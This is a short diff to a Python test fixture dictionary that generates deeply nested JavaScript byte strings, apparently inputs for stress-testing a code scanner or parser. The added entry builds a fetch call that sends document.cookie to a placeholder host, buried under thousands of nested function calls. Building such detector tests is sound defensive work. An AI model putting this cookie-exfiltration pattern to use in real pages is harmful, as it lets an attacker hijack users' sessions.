@@ -116,6 +116,7 @@ DEEP = {
     "templates": b"fetch(" + b"`${" * 1_000 + b'"https://a.example.com/x"' + b"}`" * 1_000 + b")",
     "conditions": b"if(a)" * 2_000 + URL,
     "members": b"x" + b".a" * 5_000 + b"=" + URL,
+    "calls around a source": b'fetch("https://a.example.com/x?"+' + b"f(" * 8_000 + b"document.cookie" + b")" * 8_001,
     "objects": b"x=" + b"{a:" * 2_000 + URL + b"}" * 2_000,
 }
 
